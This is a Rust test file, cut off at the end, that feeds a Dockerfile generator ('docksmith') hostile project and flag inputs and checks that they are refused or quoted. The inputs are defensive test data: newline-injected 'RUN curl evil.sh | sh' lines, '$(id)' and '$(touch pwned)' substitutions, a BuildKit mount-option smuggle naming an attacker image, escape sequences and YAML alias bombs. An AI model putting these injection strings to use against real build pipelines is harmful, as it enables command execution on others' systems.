//! Hostile and broken inputs: never a panic, never an extra Dockerfile instruction;
//! either safely quoted output or an error that names the file.

use predicates::prelude::*;

use docksmith::render::verify;

use crate::support::{docksmith, project};

const MAIN: &str = "package main\n\nfunc main() {}\n";

fn generate(dir: &std::path::Path) -> assert_cmd::assert::Assert {
    docksmith().arg("generate").arg(dir).assert()
}

fn instruction_count(dockerfile: &str) -> usize {
    verify::verify(dockerfile)
        .expect("valid Dockerfile")
        .instructions
        .len()
}

#[test]
fn a_binary_named_like_a_command_substitution_is_refused_by_file() {
    let dir = project(&[
        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
        ("cmd/$(touch pwned)/main.go", MAIN),
    ]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains(
            "cmd/$(touch pwned)/main.go: binary name `$(touch pwned)`",
        ))
        .stderr(predicate::str::contains("hint: rename it"));
}

#[test]
fn quotes_and_newlines_in_names_are_refused_by_file() {
    for name in [
        "it's",
        "a\"b",
        "a\nRUN curl evil.sh | sh",
        "tab\there",
        "esc\u{1b}",
    ] {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("go.mod"), "module m\n").unwrap();
        let pkg = dir.path().join("cmd").join(name);
        std::fs::create_dir_all(&pkg).unwrap();
        std::fs::write(pkg.join("main.go"), MAIN).unwrap();
        let out = docksmith()
            .arg("generate")
            .arg(dir.path())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{name:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("main.go: binary name"),
            "{name:?}: {stderr}"
        );
        assert!(out.stdout.is_empty());
    }
}

#[test]
fn a_hostile_module_path_never_reaches_the_dockerfile_unquoted() {
    // The root package's binary is named after the module's last element.
    let dir = project(&[
        ("go.mod", "module \"example.com/a\\\"b\"\n"),
        ("main.go", MAIN),
    ]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains("go.mod"));
    let dir = project(&[
        ("go.mod", "module \"example.com/$(id)\\nRUN x/app\"\n"),
        ("main.go", MAIN),
    ]);
    let out = docksmith()
        .arg("generate")
        .arg(dir.path())
        .output()
        .unwrap();
    if out.status.success() {
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(!text.contains("$(id)"), "{text}");
        assert!(!text.lines().any(|l| l.starts_with("RUN x")), "{text}");
    } else {
        assert!(String::from_utf8_lossy(&out.stderr).contains("go.mod"));
    }
}

#[test]
fn a_quote_in_a_package_path_is_shell_quoted_not_an_extra_instruction() {
    let benign = project(&[
        ("go.mod", "module m\n"),
        ("tools/plain/cmd/z/main.go", MAIN),
    ]);
    let hostile = project(&[
        ("go.mod", "module m\n"),
        ("tools/it's $(id)/cmd/z/main.go", MAIN),
    ]);
    let render = |dir: &std::path::Path| {
        let out = docksmith().arg("generate").arg(dir).output().unwrap();
        crate::common::assert_success(&out);
        String::from_utf8(out.stdout).unwrap()
    };
    let (benign, hostile) = (render(benign.path()), render(hostile.path()));
    assert_eq!(instruction_count(&benign), instruction_count(&hostile));
    assert!(
        hostile.contains(r"-o /out/z './tools/it'\''s $(id)/cmd/z'"),
        "{hostile}"
    );
}

#[test]
fn hostile_flag_values_are_refused() {
    let dir = project(&[("go.mod", "module m\n"), ("main.go", MAIN)]);
    for (flag, value) in [
        ("--image-runtime", "debian:12\nRUN curl evil.sh | sh"),
        ("--image-builder", "golang:1.22 AS x"),
        ("--image-builder", "golang:$(id)"),
    ] {
        docksmith()
            .args(["generate", flag, value])
            .arg(dir.path())
            .assert()
            .code(1)
            .stderr(predicate::str::contains(format!("flag {flag}")));
    }
    for (flag, value, says) in [
        (
            "--command",
            "/app\nRUN curl evil.sh | sh",
            "control character",
        ),
        ("--command", "/app 'unterminated", "missing closing quote"),
        ("--command", "", "the start command is empty"),
        ("--runtime-package", "curl;rm", "is not a package name"),
        ("--runtime-package", "Curl", "is not a package name"),
        ("--user", "0", "non-root"),
        ("--user", "70000", "non-root"),
    ] {
        docksmith()
            .args(["generate", flag, value])
            .arg(dir.path())
            .assert()
            .code(1)
            .stderr(predicate::str::contains(format!("flag {flag}")))
            .stderr(predicate::str::contains(says));
    }
    // Packages need a package manager: scratch has none.
    docksmith()
        .args([
            "generate",
            "--flavor",
            "scratch",
            "--runtime-package",
            "tzdata",
        ])
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("has no package manager"))
        .stderr(predicate::str::contains("hint: use --flavor slim"));
    // The same checks hold for values from docksmith.toml and the environment.
    std::fs::write(
        dir.path().join("docksmith.toml"),
        "command = \"a\\u0000b\"\n",
    )
    .unwrap();
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("docksmith.toml key `command`"));
    std::fs::remove_file(dir.path().join("docksmith.toml")).unwrap();
    docksmith()
        .arg("generate")
        .env("DOCKSMITH_RUNTIME_PACKAGES", "tzdata $(id)")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "environment variable DOCKSMITH_RUNTIME_PACKAGES",
        ));
    docksmith()
        .args(["generate", "--bin", "$(id)\nRUN x"])
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("no binary `$(id)\\nRUN x`"));
}

#[test]
fn broken_go_mod_names_file_and_line() {
    for (text, expect) in [
        (
            "module m\ngo banana\n",
            "go.mod:2: invalid go version `banana`",
        ),
        (
            "module m\nrequire (\n  a v1\n",
            "go.mod:3: a `(` block is never closed",
        ),
        ("go 1.22\n", "go.mod: no `module` directive"),
        ("module \"unterminated\n", "go.mod:1: unterminated string"),
    ] {
        let dir = project(&[("go.mod", text), ("main.go", MAIN)]);
        generate(dir.path())
            .code(1)
            .stderr(predicate::str::contains(expect))
            .stderr(predicate::str::contains("hint:"));
    }
}

#[test]
fn a_go_work_that_uses_no_module_is_an_error_not_a_panic() {
    // `go work init` writes only the go line.
    let dir = project(&[
        ("go.work", "go 1.22\n"),
        ("go.mod", "module m\n\ngo 1.22\n"),
        ("main.go", MAIN),
    ]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains(
            "go.work: the workspace uses no module",
        ))
        .stderr(predicate::str::contains(
            "hint: add the modules to build with `go work use <dir>`",
        ))
        .stderr(predicate::str::contains("panicked").not());
}

#[test]
fn huge_and_binary_files_are_handled() {
    let huge = "// padding\n".repeat(120_000);
    let dir = project(&[("go.mod", &format!("module m\n{huge}")), ("main.go", MAIN)]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains("go.mod: "))
        .stderr(predicate::str::contains("limit for a manifest"));
    // A Go file that is not text, and a huge generated one, are skipped, not fatal.
    let dir = project(&[
        ("go.mod", "module m\n"),
        ("main.go", MAIN),
        ("gen.go", &"var x = 1\n".repeat(300_000)),
    ]);
    std::fs::write(dir.path().join("blob.go"), [0u8, 159, 146, 150, 0xff]).unwrap();
    generate(dir.path()).success();
}

#[test]
fn a_go_mod_symlinked_out_of_the_project_is_refused() {
    let outside = project(&[("secret", "module stolen\n")]);
    let dir = project(&[("main.go", MAIN)]);
    std::os::unix::fs::symlink(outside.path().join("secret"), dir.path().join("go.mod")).unwrap();
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains(
            "go.mod: points outside the project",
        ));
}

#[test]
fn credentials_in_the_git_remote_never_reach_the_label() {
    let dir = project(&[
        ("go.mod", "module m\n"),
        ("main.go", MAIN),
        (
            ".git/config",
            "[remote \"origin\"]\n\turl = https://ci-bot:ghp_s3cret@github.com/acme/m.git\n",
        ),
    ]);
    generate(dir.path())
        .success()
        .stdout(predicate::str::contains(
            "org.opencontainers.image.source=\"https://github.com/acme/m\"",
        ))
        .stdout(predicate::str::contains("s3cret").not());
}

#[test]
fn a_loopback_listener_is_warned_about_in_plan_and_dockerfile() {
    let dir = project(&[
        ("go.mod", "module example.com/local\n"),
        (
            "main.go",
            "package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.ListenAndServe(\"127.0.0.1:7000\", nil)\n}\n",
        ),
    ]);
    docksmith()
        .arg("plan")
        .arg(dir.path())
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "warning: local listens on the loopback address only",
        ))
        .stderr(predicate::str::contains("(main.go:6)"));
    generate(dir.path())
        .success()
        .stdout(predicate::str::contains(
            "# WARNING: local listens on the loopback address only (main.go:6)",
        ));
}

#[test]
fn an_out_of_date_vendor_folder_is_left_out_and_modules_downloaded() {
    let dir = project(&[
        (
            "go.mod",
            "module m\n\ngo 1.22\n\nrequire github.com/google/uuid v1.6.0\n",
        ),
        ("go.sum", ""),
        ("main.go", MAIN),
        (
            "vendor/modules.txt",
            "# github.com/google/uuid v1.3.0\n## explicit\n",
        ),
    ]);
    let out = docksmith()
        .args(["generate", "--out"])
        .arg(dir.path().join("out"))
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("vendor/modules.txt does not list github.com/google/uuid v1.6.0"),
        "{stderr}"
    );
    let dockerfile = std::fs::read_to_string(dir.path().join("out/Dockerfile")).unwrap();
    assert!(dockerfile.contains("go mod download"));
    assert!(!dockerfile.contains("-mod=vendor"));
    let ignore = std::fs::read_to_string(dir.path().join("out/.dockerignore")).unwrap();
    assert!(ignore.lines().any(|l| l == "vendor"), "{ignore}");
}

#[test]
fn a_missing_go_sum_is_warned_about() {
    let dir = project(&[
        (
            "go.mod",
            "module m\n\nrequire github.com/google/uuid v1.6.0\n",
        ),
        ("main.go", MAIN),
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stderr(predicate::str::contains("go.sum is missing"));
}

#[test]
fn a_project_without_main_package_says_so() {
    let dir = project(&[
        ("go.mod", "module example.com/lib\n"),
        ("lib.go", "package lib\n"),
    ]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains("go.mod: no `package main`"));
}

#[test]
fn no_panic_on_mutated_manifests_and_sources() {
    let go_mod = "module example.com/shop\n\ngo 1.22.3\ntoolchain go1.23.1\n\nrequire (\n\tgithub.com/mattn/go-sqlite3 v1.14.22 // indirect\n)\nreplace example.com/lib => ./lib\n";
    let main_go = "//go:build linux && !cgo\n\npackage main\n\nimport (\n\t\"fmt\"\n\t_ \"github.com/mattn/go-sqlite3\"\n)\n\n/* import \"C\" */\n//go:embed static/*\nvar s string\n\nfunc main() { http.ListenAndServe(\":8080\", nil); fmt.Println(os.Getenv(\"PORT\")) }\n";
    for text in crate::support::mutations(go_mod, 300) {
        let _ = docksmith::lang::go::modfile::parse("go.mod", &text);
    }
    for text in crate::support::mutations(main_go, 300) {
        let _ = docksmith::lang::go::source::parse(&text);
        let _ = docksmith::lang::go::source::in_linux_build("main.go", &text);
        let _ = docksmith::lang::go::PORT_RULES.scan("main.go", &text, &[]);
    }
    // And the whole pipeline, in-process, on a sample of them.
    for (i, (m, g)) in crate::support::mutations(go_mod, 40)
        .into_iter()
        .zip(crate::support::mutations(main_go, 40))
        .enumerate()
        .step_by(7)
    {
        let dir = project(&[
            ("go.mod", &m),
            ("main.go", &g),
            ("lib/go.mod", "module example.com/lib\n"),
        ]);
        let settings = crate::support::settings(dir.path(), None);
        let result = docksmith::pipeline::generate(dir.path(), &settings);
        if let Ok((_, rendered)) = result {
            verify::verify(&rendered.dockerfile).unwrap_or_else(|e| panic!("mutation {i}: {e}"));
        }
    }
}

#[test]
fn a_port_read_from_env_without_default_asks_for_port_and_sets_it() {
    let dir = project(&[
        ("go.mod", "module example.com/web\n"),
        (
            "main.go",
            "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc main() {\n\thttp.ListenAndServe(\":\"+os.Getenv(\"PORT\"), nil)\n}\n",
        ),
    ]);
    generate(dir.path())
        .success()
        .stderr(predicate::str::contains(
            "warning: web reads $PORT and no default was found: pass --port N",
        ))
        .stderr(predicate::str::contains("(main.go:9)"))
        .stdout(predicate::str::contains("EXPOSE").not());
    docksmith()
        .args(["generate", "--port", "8000"])
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("ENV PORT=\"8000\"\n"))
        .stdout(predicate::str::contains("EXPOSE 8000\n"));
}

/// A pom whose `<module>` or `<finalName>` carries shell or Dockerfile syntax.
fn hostile_pom(module: &str, final_name: &str) -> tempfile::TempDir {
    let root = format!(
        "<project><artifactId>root</artifactId><version>1</version><packaging>pom</packaging><modules><module>{module}</module></modules></project>"
    );
    let app = format!(
        "<project><artifactId>app</artifactId><version>1</version><build><finalName>{final_name}</finalName><plugins><plugin><artifactId>maven-shade-plugin</artifactId></plugin></plugins></build></project>"
    );
    project(&[
        ("pom.xml", root.as_str()),
        (&format!("{module}/pom.xml"), app.as_str()),
    ])
}

#[test]
fn hostile_maven_modules_and_jar_names_are_refused_by_file() {
    // COPY splits on spaces and expands `$`: refused, naming the file that said it.
    let dir = hostile_pom("app $(id)", "app");
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains(
            "pom.xml: build file `app $(id)/pom.xml`",
        ))
        .stderr(predicate::str::contains("hint: rename it in pom.xml"));
    // Refused, naming the pom, where nothing can quote them.
    let dir = hostile_pom("app", "x&#10;RUN curl evil");
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains("app/pom.xml"))
        .stderr(predicate::str::contains("contains a newline"));
    // A module outside the project is not read.
    let dir = hostile_pom("../../etc", "app");
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains("no module builds a runnable jar"));
}

#[test]
fn deep_or_self_referencing_pnpm_manifests_are_errors_not_crashes() {
    // JSON5's parser recursed until the stack overflowed; YAML's scanner crawled for
    // minutes on deep flow sequences; aliases can expand without end.
    let deep_json5 = format!("{{a:{}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_yaml = format!("a: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let mut bomb = vec!["a0: &a0 [x, x, x, x, x, x, x, x, x]".to_string()];
    for i in 1..12 {
        let refs = vec![format!("*a{}", i - 1); 9].join(", ");
        bomb.push(format!("a{i}: &a{i} [{refs}]"));
    }
    let bomb = bomb.join("\n");
    for (file, text, says) in [
        (
            "package.json5",
            deep_json5.as_str(),
            "nests deeper than 64 levels",
        ),
        (
            "package.yaml",
            deep_yaml.as_str(),
            "nests deeper than 64 levels",
        ),
        ("package.yaml", bomb.as_str(), "repetition limit exceeded"),
    ] {
        let dir = project(&[(file, text)]);
        docksmith()
            .arg("detect")
            .arg(dir.path())
            .timeout(std::time::Duration::from_secs(10))
            .assert()
            .code(1)
            .stderr(predicate::str::contains(format!("error: {file}:")))
            .stderr(predicate::str::contains(says));
    }
}

#[test]
fn hostile_static_site_folders_are_refused_by_file() {
    // A Staticfile's root, an angular.json outputPath or a Caddyfile's root reaches a
    // COPY: refused naming the file, never a template error ("a bug in docksmith").
    let site = [
        (
            "package.json",
            "{\"name\": \"s\", \"scripts\": {\"build\": \"ng build\"}, \"dependencies\": {\"@angular/core\": \"19\"}, \"devDependencies\": {\"@angular/build\": \"19\"}}",
        ),
        ("package-lock.json", "{}\n"),
    ];
    for (file, text, says) in [
        (
            "Staticfile",
            "root: `id`\n",
            "Staticfile: the site's folder",
        ),
        (
            "angular.json",
            "{\"projects\": {\"s\": {\"architect\": {\"build\": {\"options\": {\"outputPath\": \"dist/$(id)\"}}}}}}",
            "angular.json:1: the site's folder",
        ),
        (
            "Caddyfile",
            ":8080 {\n  root * \"/srv/my site\"\n}\n",
            "Caddyfile: root `/srv/my site`",
        ),
    ] {
        let mut files = site.to_vec();
        files.push((file, text));
        let dir = project(&files);
        generate(dir.path())
            .code(1)
            .stderr(predicate::str::contains(says))
            .stderr(predicate::str::contains("is not a plain path"))
            .stderr(predicate::str::contains("bug").not());
    }
    // The same outputPath for Angular's server: its build output, by file.
    let dir = project(&[
        (
            "package.json",
            "{\"name\": \"s\", \"scripts\": {\"build\": \"ng build\"}, \"dependencies\": {\"@angular/core\": \"19\", \"@angular/ssr\": \"19\"}}",
        ),
        ("package-lock.json", "{}\n"),
        (
            "angular.json",
            "{\"projects\": {\"s\": {\"architect\": {\"build\": {\"options\": {\"outputPath\": \"dist/a b\"}}}}}}",
        ),
    ]);
    generate(dir.path())
        .code(1)
        .stderr(predicate::str::contains(
            "angular.json:1: build output `/app/dist/a b` is not a plain path",
        ));
}

#[test]
fn a_path_that_would_add_mount_options_is_refused_naming_the_file_and_line() {
    // BuildKit reads `source=x,FROM=img` as a mount from another image (keys in any
    // case, the last one wins): such a path never reaches a --mount option list.
    let payload = "x,FROM=docker.io/attacker/img,source=payload.txt";
    let python = project(&[
        ("requirements.txt", &format!("flask==3.0.0\n-r {payload}\n")),
        (payload, "flask==3.0.0\n"),
        ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
    ]);
    generate(python.path()).code(1).stderr(
        predicate::str::contains(format!(
            "requirements.txt:2: the -r/-c include `{payload}` cannot be bind-mounted"
        ))
        .and(predicate::str::contains(
            "hint: rename it, then fix requirements.txt",
        )),
    );
    let go = project(&[
        ("go.work", "go 1.22\n\nuse ./app,from=evil\n"),
        (
            "app,from=evil/go.mod",
            "module example.com/app\n\ngo 1.22\n",
        ),
        ("app,from=evil/main.go", MAIN),
    ]);
    generate(go.path()).code(1).stderr(predicate::str::contains(
        "go.work:3: the `use` folder `app,from=evil` cannot be bind-mounted",
    ));
}

/// Makes a FIFO at `path`.
fn fifo(path: &std::path::Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn fifos_and_endless_files_at_every_path_read_never_hang() {
    // Each command must answer (a result or an error naming the file) well within the
    // timeout; before, a FIFO blocked forever and a /dev/zero link ate memory.
    let places = [
        "docksmith.toml",
        ".gitignore",
        ".ignore",
        ".git/info/exclude",
        "Dockerfile",
        ".dockerignore",
        ".docksmith/generated/Dockerfile",
        "sub/.gitignore",
    ];
    for place in places {
        for endless in [false, true] {
            let dir = project(&[
                ("go.mod", "module example.com/x\n\ngo 1.22\n"),
                ("main.go", MAIN),
                ("sub/keep.txt", "x\n"),
            ]);
            let path = dir.path().join(place);
            if endless {
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::os::unix::fs::symlink("/dev/zero", &path).unwrap();
            } else {
                fifo(&path);
            }
            for command in [
                &["generate"][..],
                &["init", "--force"],
                &["check"],
                &["update"],
            ] {
                let started = std::time::Instant::now();
                let out = docksmith()
                    .args(command)
                    .arg(dir.path())
                    .timeout(std::time::Duration::from_secs(20))
                    .output()
                    .unwrap();
                let err = String::from_utf8_lossy(&out.stderr);
                assert!(
                    out.status.code().is_some(),
                    "{place} (endless: {endless}) {command:?}: killed after {:?}: {err}",
                    started.elapsed()
                );
                assert!(!err.contains("panicked"), "{place} {command:?}: {err}");
            }
        }
    }
}

#[test]
fn escape_sequences_from_a_project_are_shown_never_sent_to_the_terminal() {
    let title = "\u{1b}]0;pwned\u{7}";
    let clear = "\u{1b}[2J";
    let go = project(&[
        (
            "go.mod",
            &format!("module example.com/x\n\ngo 1.22\n\ntoolchain go1.22.1{title}\n"),
        ),
        ("main.go", MAIN),
    ]);
    let node = project(&[
        (
            "package.json",
            &format!(
                "{{\"name\":\"x\",\"version\":\"1.0.0\",\"engines\":{{\"node\":\">=20{clear}\u{202e}\"}},\"scripts\":{{\"start\":\"node index.js\"}}}}"
            ),
        ),
        ("index.js", "require('http').createServer().listen(3000)\n"),
    ]);
    let python = project(&[
        (
            "requirements.txt",
            &format!("flask==3.0.0\n-r missing{clear}.txt\n"),
        ),
        ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
    ]);
    for dir in [&go, &node, &python] {
        for command in ["detect", "plan", "generate"] {
            let out = docksmith().arg(command).arg(dir.path()).output().unwrap();
            for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
                let text = String::from_utf8_lossy(bytes);
                assert!(
                    !bytes.iter().any(|b| *b == 0x1b || *b == 0x07) && !text.contains('\u{202e}'),
                    "{command} {stream}: {text:?}"
                );
            }
        }
    }
    // What was there is shown, escaped.
    let out = docksmith()
        .arg("detect")
        .arg(python.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("missing\\u{1b}[2J.txt"), "{text}");
}

#[test]
fn racing_writers_leave_files_that_agree_and_never_claim_force_was_missing() {
    // Five `init --force --port N` at once, 20 rounds: the lock serializes them, so the
    // result is one run's files, all three agreeing (check is clean).
    let dir = project(&[
        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
        (
            "main.go",
            "package main\n\nimport \"net/http\"\n\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n",
        ),
    ]);
    let mut inconsistent = 0;
    let mut refused = 0;
    for _round in 0..20 {
        // All five started before any is waited for.
        let children: Vec<_> = (0..5)
            .map(|i| {
                std::process::Command::new(env!("CARGO_BIN_EXE_docksmith"))
                    .args([
                        "init",
                        "--force",
                        "--yes",
                        "--port",
                        &(9000 + i).to_string(),
                    ])
                    .arg(dir.path())
                    .env("XDG_CONFIG_HOME", "/nonexistent/docksmith-tests")
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let runs: Vec<_> = children
            .into_iter()
            .map(|child| child.wait_with_output().unwrap())
            .collect();
        refused += runs
            .iter()
            .filter(|o| {
                !o.status.success() || String::from_utf8_lossy(&o.stderr).contains("pass --force")
            })
            .count();
        let toml = std::fs::read_to_string(dir.path().join("docksmith.toml")).unwrap();
        let dockerfile = std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
        let port = toml
            .lines()
            .find_map(|l| l.strip_prefix("port = "))
            .unwrap_or_default()
            .to_string();
        let check = docksmith().arg("check").arg(dir.path()).output().unwrap();
        if !dockerfile.contains(&format!("EXPOSE {port}\n")) || !check.status.success() {
            inconsistent += 1;
        }
    }
    println!("racing writers: 20 rounds x 5, inconsistent {inconsistent}, refused {refused}");
    assert_eq!((inconsistent, refused), (0, 0));
    let stray: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".docksmith-"))
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
}

#[test]
fn a_run_killed_at_any_point_leaves_one_runs_files_and_no_stray_temp_files() {
    // kill -9 at a pseudo-random moment of `init --force` or `update` (in turn), then
    // `check`: the files must agree (all from the killed run, finished from its
    // journal, or all from the one before), and nothing of the killed run may be left
    // over. 500 runs; DOCKSMITH_KILL_RUNS changes it.
    let runs: u64 = std::env::var("DOCKSMITH_KILL_RUNS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(500);
    let dir = project(&[
        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
        (
            "main.go",
            "package main\n\nimport \"net/http\"\n\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n",
        ),
    ]);
    docksmith()
        .args(["init", "--yes"])
        .arg(dir.path())
        .assert()
        .success();
    // The kill moments spread over a whole run, its last writes included.
    let started = std::time::Instant::now();
    docksmith()
        .args(["init", "--force", "--yes"])
        .arg(dir.path())
        .assert()
        .success();
    let span = started.elapsed().as_micros() as u64 * 11 / 10;
    let mut seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64;
    let (mut inconsistent, mut killed) = (0, 0);
    for run in 0..runs {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let delay = std::time::Duration::from_micros((seed >> 33) % span.max(1));
        let port = (9000 + run % 3).to_string();
        let args: &[&str] = if run % 2 == 0 {
            &["init", "--force", "--yes", "--port", &port]
        } else {
            &["update", "--port", &port]
        };
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_docksmith"))
            .args(args)
            .arg(dir.path())
            .env("XDG_CONFIG_HOME", "/nonexistent/docksmith-tests")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(delay);
        if child.try_wait().unwrap().is_none() {
            killed += 1;
        }
        let _ = child.kill();
        let _ = child.wait();
        let check = docksmith().arg("check").arg(dir.path()).output().unwrap();
        if !check.status.success() {
            inconsistent += 1;
        }
    }
    let stray = std::fs::read_dir(dir.path())
        .unwrap()
        .chain(std::fs::read_dir(dir.path().join(".docksmith/generated")).unwrap())
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".docksmith-"))
        .count();
    println!(
        "kill -9 (init --force and update in turn): {runs} runs, {killed} killed mid-run, inconsistent {inconsistent}, stray temp files {stray}"
    );
    assert_eq!((inconsistent, stray), (0, 0));
    assert!(!dir.path().join(".docksmith/commit").exists());
}

#[test]
fn a_dockerfile_that_says_other_than_its_plan_is_caught_before_writing() {
    use docksmith::render::parse_back::matches_plan;
    let dir = crate::support::copy_example("node-express-npm");
    let settings = crate::support::settings(dir.path(), None);
    let (plan, rendered) = docksmith::pipeline::generate(dir.path(), &settings).unwrap();
    let text = rendered.dockerfile;
    assert!(matches_plan(&verify::verify(&text).unwrap(), &plan).is_ok());
    let label = text.lines().find(|l| l.starts_with("LABEL ")).unwrap();
    for (tampered, what) in [
        // A value that kept the syntax but lost an item.
        (text.replacen("\"--\", \"", "\"-- ", 1), "ENTRYPOINT"),
        (
            text.replacen(
                "CMD [\"server.js\"]",
                "CMD [\"server.js\", \"--inspect\"]",
                1,
            ),
            "CMD",
        ),
        // A label value that split into two labels.
        (
            text.replacen(label, &format!("{label} extra=\"x\""), 1),
            "label list",
        ),
        // An escaping slip: `$` left to expand.
        (
            text.replacen(
                "ENV NODE_ENV=\"production\"",
                "ENV NODE_ENV=\"$production\"",
                1,
            ),
            "environment",
        ),
        (text.replacen("USER 65532:65532", "USER 0:0", 1), "user"),
        (text.replacen("EXPOSE 3000", "EXPOSE 3001", 1), "port"),
    ] {
        assert_ne!(tampered, text, "{what}: nothing tampered");
        let err = verify::verify(&tampered)
            .map_err(|e| e.to_string())
            .and_then(|summary| matches_plan(&summary, &plan).map_err(|e| e.to_string()))
            .unwrap_err();
        assert!(err.contains(what), "{what}: {err}");
    }
}

#[test]
fn a_hand_written_dockerfile_that_is_not_utf8_is_a_conflict_the_flags_settle() {
    let dir = project(&[
        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
        ("main.go", MAIN),
    ]);
    let theirs: &[u8] = b"FROM x\n\xff\xfe latin-1 bytes\n";
    std::fs::write(dir.path().join("Dockerfile"), theirs).unwrap();
    docksmith()
        .args(["init"])
        .arg(dir.path())
        .assert()
        .code(5)
        .stderr(predicate::str::contains("conflict   Dockerfile"));
    docksmith()
        .args(["init", "--skip"])
        .arg(dir.path())
        .assert()
        .success();
    assert_eq!(
        std::fs::read(dir.path().join("Dockerfile")).unwrap(),
        theirs
    );
    docksmith()
        .args(["init", "--force"])
        .arg(dir.path())
        .assert()
        .success();
    let ours = std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
    assert!(ours.contains("Generated by docksmith"), "{ours}");
    docksmith().arg("check").arg(dir.path()).assert().success();
}

/// Runs docksmith `args` on `dir` (as `nobody` when the tests run as root, so that
/// permissions apply); returns exit code, stderr and how long it took.
fn run_unprivileged(
    args: &[&str],
    dir: &std::path::Path,
) -> (Option<i32>, String, std::time::Duration) {
    let binary = assert_cmd::cargo::cargo_bin("docksmith");
    let mut command = if unsafe { libc::geteuid() } == 0 {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(binary);
        c
    } else {
        std::process::Command::new(binary)
    };
    command
        .args(args)
        .arg(dir)
        .env("XDG_CONFIG_HOME", "/nonexistent")
        .env("XDG_CACHE_HOME", "/nonexistent");
    let started = std::time::Instant::now();
    let out = command.output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        started.elapsed(),
    )
}

/// The largest resident size any finished child process reached, in MiB.
fn children_max_rss_mib() -> i64 {
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut usage) };
    usage.ru_maxrss / 1024
}

#[test]
fn sparse_huge_unreadable_and_non_utf8_trees_are_answered_within_a_second() {
    use std::os::unix::fs::PermissionsExt;
    let base = [
        ("go.mod", "module example.com/x\n\ngo 1.22\n"),
        ("main.go", MAIN),
        ("sub/keep.txt", "x\n"),
    ];
    // Each case: a description and what it does to a fresh copy of the project.
    type Case = (String, Box<dyn Fn(&std::path::Path)>);
    let mut cases: Vec<Case> = Vec::new();
    for path in [
        "go.mod",
        "main.go",
        "package.json",
        "Cargo.toml",
        "requirements.txt",
        ".gitignore",
        "Dockerfile",
        ".dockerignore",
        "docksmith.toml",
        "sub/data.bin",
    ] {
        cases.push((
            format!("sparse 2 GiB {path}"),
            Box::new(move |dir: &std::path::Path| {
                let file = std::fs::File::create(dir.join(path)).unwrap();
                file.set_len(2 << 30).unwrap();
            }),
        ));
    }
    for path in [
        "go.mod",
        "main.go",
        ".gitignore",
        "docksmith.toml",
        "Dockerfile",
        "sub",
    ] {
        cases.push((
            format!("unreadable {path}"),
            Box::new(move |dir: &std::path::Path| {
                let target = dir.join(path);
                if !target.exists() {
                    std::fs::write(&target, "x\n").unwrap();
                }
                std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o000)).unwrap();
            }),
        ));
    }
    cases.push((
        "non-UTF-8 names".into(),
        Box::new(|dir: &std::path::Path| {
            use std::os::unix::ffi::OsStrExt;
            let name = std::ffi::OsStr::from_bytes(b"cmd\xff\xfe");
